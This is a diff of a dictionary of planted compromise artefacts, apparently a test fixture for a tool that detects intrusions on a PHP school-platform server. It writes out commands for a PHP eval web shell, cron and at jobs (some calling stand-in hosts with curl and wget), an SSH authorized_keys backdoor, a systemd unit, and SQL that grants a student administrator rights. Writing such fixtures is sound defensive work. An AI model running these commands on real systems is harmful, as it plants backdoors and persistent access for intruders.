@@ -248,12 +248,16 @@ PLANTED = {
     "a file that changes how a folder is run": f"echo 'SetHandler php' >{ROOT}/public/img/.htaccess",
     "what looks like a web shell": f"echo '<?php eval($_POST[1]);' >{ROOT}/public/main/forum.php",
     "a script beside index.php": f"echo '<?php phpversion();' >{ROOT}/public/help.php",
-    "a cron job of the web user": "echo '* * * * * curl http://x' >/var/spool/cron/crontabs/www-data",
+    "a cron job of the web user": "echo '* * * * * php /srv/x # bin/console' | crontab -u www-data -",
     "a cron job that runs as the web user": "echo '* * * * * www-data wget http://x' >/etc/cron.d/x",
+    "a cron job of another account": (
+        "install -o www-data /dev/null /srv/x.php; echo '* * * * * root php -q /srv/x.php' >/etc/cron.d/y"
+    ),
+    "a file of www-data's own that its programs run": "echo id >/var/www/.bashrc; chown www-data /var/www/.bashrc",
     "a way back in for www-data": "mkdir -p /var/www/.ssh && echo ssh-rsa >/var/www/.ssh/authorized_keys",
     "an at job of the web user": "install -D -o www-data /dev/null /var/spool/cron/atjobs/a0000101c0de00",
     "a unit of systemd": "printf '[Service]\\nExecStart=/tmp/x\\n' >/etc/systemd/system/x.service",
-    "a process of the web user": "cp /bin/sleep /tmp/s; runuser -u www-data -- setsid -f /tmp/s 600 >/dev/null 2>&1",
+    "a process of the web user": "runuser -u www-data -- setsid -f php -r 'sleep(600);' >/dev/null 2>&1",
     "pupils with an administrator's rights": f"UPDATE user SET roles = '{ADMIN}' WHERE username = 'student01'",
     "administrators made in the last 30 days": "UPDATE user SET created_at = NOW() WHERE username = 'second.admin'",
 }
